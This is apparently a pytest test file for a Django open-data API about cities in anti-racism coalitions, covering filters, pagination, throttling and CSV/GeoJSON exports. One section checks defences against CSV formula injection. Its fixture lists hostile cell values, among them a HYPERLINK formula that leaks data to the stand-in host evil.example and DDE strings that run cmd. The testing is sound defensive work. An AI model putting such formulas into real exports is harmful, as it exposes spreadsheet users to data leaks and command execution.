"""The open-data API and the streamed exports."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.utils import translation
from rest_framework import serializers
from rest_framework.settings import api_settings
from rest_framework.throttling import AnonRateThrottle

from coalition.csvcells import FORMULA_STARTS, neutralise, restore
from members import selectors
from members.api import CitySerializer, CoalitionSerializer
from members.importer import CSV_HEADER
from members.models import City
from tests.factories import CityFactory, MembershipFactory
from tests.members.conftest import make_cities


def read_stream(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_api_root_lists_the_resources(client, world):
    data = client.get("/api/v1/").json()
    assert set(data) == {"cities", "coalitions", "plans"}


def test_city_list_holds_public_members_only_with_their_memberships(client, world):
    data = client.get("/api/v1/cities/").json()
    assert data["count"] == 5
    by_name = {c["name"]: c for c in data["results"]}
    assert set(by_name) == {"Bangkok", "Ghent", "Köln", "Munich", "Zürich"}
    munich = by_name["Munich"]
    assert munich["country"] == "DE" and munich["local_name"] == "München"
    assert munich["memberships"] == [
        {
            "coalition": "eccar",
            "coalition_short_name": "ECCAR",
            "status": "suspended",
            "joined_on": "2012-07-01",
            "report_overdue_since": None,
        }
    ]
    assert munich["profile_url"] == "http://testserver/cities/munich/"


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"q": "koln"}, {"Köln"}),
        ({"q": "zurich"}, {"Zürich"}),
        ({"coalition": "apcad"}, {"Bangkok"}),
        ({"country": "DE"}, {"Köln", "Munich"}),
        ({"region": "Bavaria"}, {"Munich"}),
        ({"status": "suspended"}, {"Munich"}),
    ],
)
def test_city_list_takes_the_directory_filters(client, world, params, expected):
    data = client.get("/api/v1/cities/", params).json()
    assert {c["name"] for c in data["results"]} == expected


def test_invalid_filter_is_a_400_naming_the_field(client, world):
    response = client.get("/api/v1/cities/", {"status": "applicant"})
    assert response.status_code == 400
    assert "status" in response.json()


def test_city_detail_by_slug_and_hidden_cities_are_404(client, world):
    assert client.get("/api/v1/cities/zurich/").json()["name"] == "Zürich"
    for key in ("applicant", "withdrawn", "excluded"):
        assert client.get(f"/api/v1/cities/{world[key].slug}/").status_code == 404


def test_city_list_is_paginated_in_a_stable_order(client, world):
    make_cities(120, world["eccar"])
    first = client.get("/api/v1/cities/", {"page_size": 50}).json()
    assert first["count"] == 125
    assert len(first["results"]) == 50 and first["next"]
    seen = []
    url = "/api/v1/cities/?page_size=50"
    while url:
        page = client.get(url).json()
        seen += [c["slug"] for c in page["results"]]
        url = page["next"]
    assert len(seen) == len(set(seen)) == 125


def test_coalitions_with_lead_cities_and_plan_in_force(client, world):
    data = client.get("/api/v1/coalitions/").json()
    by_short = {c["short_name"]: c for c in data["results"]}
    assert by_short["ECCAR"]["member_count"] == 4
    assert by_short["ECCAR"]["parent"] == "iccar"
    assert by_short["ECCAR"]["plan_in_force"] == world["plan"].pk
    assert by_short["APCAD"]["plan_in_force"] is None
    assert client.get("/api/v1/coalitions/eccar/").json()["slug"] == "eccar"


def test_plans_with_commitments_filtered_by_coalition(client, world):
    data = client.get("/api/v1/plans/", {"coalition": "eccar"}).json()
    (plan,) = data["results"]
    assert [c["number"] for c in plan["commitments"]] == [1, 2, 3]
    assert plan["commitments"][0]["title"] == "Commitment number 1"
    assert client.get("/api/v1/plans/", {"coalition": "apcad"}).json()["count"] == 0


def test_api_is_read_only(client, world):
    assert client.post("/api/v1/cities/", {"name": "X"}).status_code in (403, 405)
    assert client.delete("/api/v1/cities/zurich/").status_code in (403, 405)


def test_anonymous_clients_are_throttled(client, world, settings):
    cache.clear()
    original = AnonRateThrottle.THROTTLE_RATES
    AnonRateThrottle.THROTTLE_RATES = {**api_settings.DEFAULT_THROTTLE_RATES, "anon": "3/min"}
    try:
        codes = [client.get("/api/v1/coalitions/").status_code for _ in range(4)]
    finally:
        AnonRateThrottle.THROTTLE_RATES = original
        cache.clear()
    assert codes == [200, 200, 200, 429]


def test_schema_and_docs_are_served_without_a_cdn(client, world):
    schema = client.get("/api/schema/")
    assert schema.status_code == 200
    text = schema.content.decode()
    for path in (
        "/api/v1/cities/",
        "/api/v1/cities.csv",
        "/api/v1/cities.geojson",
        "/api/v1/plans/",
    ):
        assert path in text
    docs = client.get("/api/docs/")
    html = docs.content.decode()
    assert docs.status_code == 200
    assert "cdn" not in html.lower() and "https://" not in html
    assert "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js" in html
    assert "<script>" not in html  # the init script is a separate file: no CSP exemption
    script = client.get("/api/docs/", {"script": ""})
    assert b"SwaggerUIBundle" in script.content


# --- exports ---------------------------------------------------------------------


def test_csv_export_has_the_import_header_and_one_row_per_public_membership(client, world):
    response = client.get("/api/v1/cities.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(read_stream(response))))
    assert rows[0] == CSV_HEADER
    assert [r[0] for r in rows[1:]] == ["Bangkok", "Ghent", "Köln", "Munich", "Zürich"]
    zurich = dict(zip(CSV_HEADER, rows[-1], strict=True))
    assert zurich == {
        "name": "Zürich",
        "country": "CH",
        "region": "Canton of Zürich",
        "coalition": "ECCAR",
        "latitude": "47.3769",
        "longitude": "8.5417",
        "population": "",
        "joined_on": "2016-09-28",
        "status": "member",
        "website": "",
        "local_name": "",
    }


def test_csv_export_has_a_row_per_membership_of_a_city_in_two_coalitions(client, world):
    MembershipFactory(city=world["koln"], coalition=world["apcad"])
    text = read_stream(client.get("/api/v1/cities.csv", {"q": "koln"}))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["name"], r["coalition"]) for r in rows] == [("Köln", "APCAD"), ("Köln", "ECCAR")]
    # The coalition filter narrows the rows, not only the cities.
    text = read_stream(client.get("/api/v1/cities.csv", {"q": "koln", "coalition": "eccar"}))
    assert [r["coalition"] for r in csv.DictReader(io.StringIO(text))] == ["ECCAR"]


def test_csv_export_takes_the_filters_and_is_not_paginated(client, world):
    make_cities(130, world["apcad"])
    rows = list(
        csv.DictReader(
            io.StringIO(read_stream(client.get("/api/v1/cities.csv", {"coalition": "apcad"})))
        )
    )
    assert len(rows) == 131
    assert {r["coalition"] for r in rows} == {"APCAD"}


def test_export_accepts_any_accept_header(client, world):
    response = client.get("/api/v1/cities.csv", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200


def test_export_with_a_bad_filter_is_a_400(client, world):
    response = client.get("/api/v1/cities.csv", {"coalition": "nope"})
    assert response.status_code == 400
    assert "coalition" in json.loads(response.content)


def test_geojson_export_is_a_valid_feature_collection(client, world):
    response = client.get("/api/v1/cities.geojson", {"country": "DE"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(read_stream(response))
    assert data["type"] == "FeatureCollection"
    assert [f["properties"]["name"] for f in data["features"]] == ["Köln", "Munich"]
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert -180 <= lon <= 180 and -90 <= lat <= 90
    assert data["features"][1]["properties"]["memberships"] == [
        {"coalition": "ECCAR", "status": "suspended", "joined_on": "2012-07-01"}
    ]


def test_geojson_export_of_nothing_is_still_valid(client, world):
    data = json.loads(read_stream(client.get("/api/v1/cities.geojson", {"q": "nowhere"})))
    assert data == {"type": "FeatureCollection", "features": []}


def test_geojson_leaves_out_a_city_without_coordinates_and_says_so(client, world):
    world["koln"].latitude = world["koln"].longitude = None
    world["koln"].save()
    data = json.loads(read_stream(client.get("/api/v1/cities.geojson", {"country": "DE"})))
    assert [f["properties"]["name"] for f in data["features"]] == ["Munich"]
    csv_text = read_stream(client.get("/api/v1/cities.csv", {"country": "DE"}))
    assert "Köln" in csv_text  # the CSV export holds it
    schema = client.get("/api/schema/", {"format": "json"}).json()
    described = schema["paths"]["/api/v1/cities.geojson"]["get"]["description"]
    assert "without coordinates is left out" in described


def test_csv_export_holds_the_local_name_under_the_import_column(client, world):
    rows = list(csv.DictReader(io.StringIO(read_stream(client.get("/api/v1/cities.csv")))))
    assert {r["name"]: r["local_name"] for r in rows}["Munich"] == "München"
    assert list(rows[0]) == CSV_HEADER


# --- formulas in the CSV (OWASP "CSV injection") -------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by its author",
]


@pytest.fixture
def hostile_cities(world):
    cities = []
    for i, name in enumerate(HOSTILE_NAMES):
        city = CityFactory(
            name=name,
            slug=f"hostile-{i}",
            country="GB",
            region="=1+1" if i == 0 else "@region",
            latitude=Decimal("51.5072"),
            longitude=Decimal("-0.1278"),
        )
        MembershipFactory(city=city, coalition=world["eccar"])
        cities.append(city)
    return cities


def test_csv_export_puts_a_quote_before_every_cell_a_spreadsheet_would_run(client, hostile_cities):
    rows = list(csv.DictReader(io.StringIO(read_stream(client.get("/api/v1/cities.csv")))))
    by_slug_order = {r["name"]: r for r in rows if r["country"] == "GB"}
    assert sorted(by_slug_order) == sorted(
        [
            "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            "'+cmd|' /C calc'!A0",
            "'-2+3+cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "''=already quoted by its author",
        ]
    )
    for row in by_slug_order.values():
        assert row["region"] in ("'=1+1", "'@region")
        assert row["longitude"] == "-0.1278"  # a number stays a number
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_of_formula_like_names_reimports_unchanged(client, tmp_path, hostile_cities):
    exported = b"".join(client.get("/api/v1/cities.csv").streaming_content)
    path = tmp_path / "export.csv"
    path.write_bytes(exported)
    before = sorted(City.objects.values_list("name", "region", "longitude"))
    out = io.StringIO()
    call_command("import_cities", str(path), stdout=out, stderr=io.StringIO())
    assert "cities: 0 created, 0 updated, 10 unchanged" in out.getvalue()
    assert sorted(City.objects.values_list("name", "region", "longitude")) == before


def test_the_api_docs_say_how_formula_like_cells_are_quoted(client, world):
    schema = client.get("/api/schema/", {"format": "json"}).json()
    export = schema["paths"]["/api/v1/cities.csv"]["get"]
    assert "single quote" in export["description"]
    assert "OWASP" in export["description"]


@pytest.mark.parametrize(
    "value",
    ["", "Zürich", "=1+1", "+1", "-", "-0.1278", "+5", "'", "'=x", "''=x", "'-5", "@", "\tx",
     "\rx", "a=b", "-2+3", "'plain", "1e5", "-.5"],
)  # fmt: skip
def test_a_neutralised_cell_is_restored_exactly(value):
    cell = neutralise(value)
    assert restore(cell) == value
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start like a formula


@pytest.mark.parametrize("language", ["en", "de"])
def test_list_serializers_write_what_their_declared_fields_give(rf, world, language):
    """CitySerializer and CoalitionSerializer write their dicts directly (for speed): each
    city and coalition comes out exactly as DRF's field-by-field path gives it."""

    City.objects.filter(name="Munich").update(population=1_500_000, website="https://m.de/")
    request = rf.get("/api/v1/cities/")
    with translation.override(language):
        for serializer_class, objects in (
            (CitySerializer, list(selectors.api_cities().order_by("name"))),
            (CoalitionSerializer, list(selectors.api_coalitions())),
        ):
            serializer = serializer_class(context={"request": request})
            assert objects
            for obj in objects:
                generic = serializers.ModelSerializer.to_representation(serializer, obj)
                assert serializer.to_representation(obj) == dict(generic), obj
